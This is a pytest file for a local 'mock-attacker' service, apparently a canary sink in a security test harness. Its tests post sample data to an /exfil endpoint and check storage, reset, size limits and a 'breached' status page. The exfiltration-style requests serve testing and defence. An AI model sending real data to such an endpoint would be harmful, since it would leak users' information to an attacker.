"""mock-attacker: durable loot, raw bytes kept, a page that goes red."""

from __future__ import annotations

import base64

import httpx


def test_stores_json_and_raw_bytes_durably(serve):
    attacker = serve("mock-attacker")
    assert httpx.get(f"{attacker.url}/api/count").json() == {"count": 0, "total": 0}
    ok = httpx.post(f"{attacker.url}/exfil", json={"name": "Alice Smith"})
    assert ok.json()["stored"] is True
    garbage = b"\xff\xfe not json \x00"
    httpx.post(f"{attacker.url}/exfil", content=garbage, headers={"content-type": "application/octet-stream"})
    attacker.stop()

    again = serve("mock-attacker")
    events = httpx.get(f"{again.url}/api/events").json()
    assert events["count"] == 2
    raw, parsed = events["events"]
    assert parsed["body"] == {"name": "Alice Smith"}
    assert parsed["source_addr"] == "127.0.0.1"
    assert raw["body"] is None
    assert base64.b64decode(raw["body_base64"]) == garbage
    assert raw["size_bytes"] == len(garbage)


def test_reset_moves_the_view_but_keeps_every_event(serve):
    attacker = serve("mock-attacker")
    httpx.post(f"{attacker.url}/exfil", json={"n": 1})
    assert httpx.post(f"{attacker.url}/api/reset").json() == {"count": 0, "total": 1}
    httpx.post(f"{attacker.url}/exfil", json={"n": 2})
    assert httpx.get(f"{attacker.url}/api/count").json() == {"count": 1, "total": 2}
    assert len(httpx.get(f"{attacker.url}/api/events?all=1").json()["events"]) == 2


def test_oversized_and_bad_queries(serve):
    attacker = serve("mock-attacker")
    assert httpx.post(f"{attacker.url}/exfil", content=b"x" * (1024 * 1024 + 1)).status_code == 413
    assert httpx.get(f"{attacker.url}/api/events?limit=lots").status_code == 400
    assert httpx.get(f"{attacker.url}/api/count").json()["total"] == 0


def test_page(serve):
    attacker = serve("mock-attacker")
    page = httpx.get(attacker.url)
    assert page.status_code == 200
    assert "mock-attacker" in page.text
    assert "breached" in page.text
